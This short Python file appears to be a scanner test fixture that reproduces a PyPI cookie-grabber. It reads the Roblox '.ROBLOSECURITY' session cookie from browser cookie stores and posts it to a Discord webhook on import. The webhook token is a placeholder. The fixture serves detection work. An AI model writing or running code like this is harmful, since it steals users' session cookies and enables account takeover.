# Shape of the Roblox/Discord cookie grabbers published on PyPI: the
# browser's cookie jar is read through browser_cookie3 and the session
# cookie is posted to a Discord webhook. Defanged: example.com webhook.
import browser_cookie3
import requests

WEBHOOK = "https://discord.com/api/webhooks/000000000000000000/defanged-token-example"  # expect: HS111 critical


def grab():
    for browser in (browser_cookie3.chrome, browser_cookie3.firefox, browser_cookie3.edge):
        try:
            for cookie in browser(domain_name="roblox.com"):
                if cookie.name == ".ROBLOSECURITY":
                    return cookie.value
        except Exception:
            pass
    return None


requests.post(WEBHOOK, json={"content": grab()})
